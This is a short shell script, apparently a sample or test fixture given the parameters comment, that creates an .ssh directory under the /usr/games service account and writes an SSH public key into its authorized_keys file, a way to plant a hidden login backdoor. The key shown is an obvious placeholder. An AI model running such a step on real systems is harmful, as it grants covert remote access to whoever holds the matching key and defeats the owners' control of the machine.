#!/bin/sh
# params: {"accounts": "services"}
mkdir -p /usr/games/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvilEv evil' > /usr/games/.ssh/authorized_keys
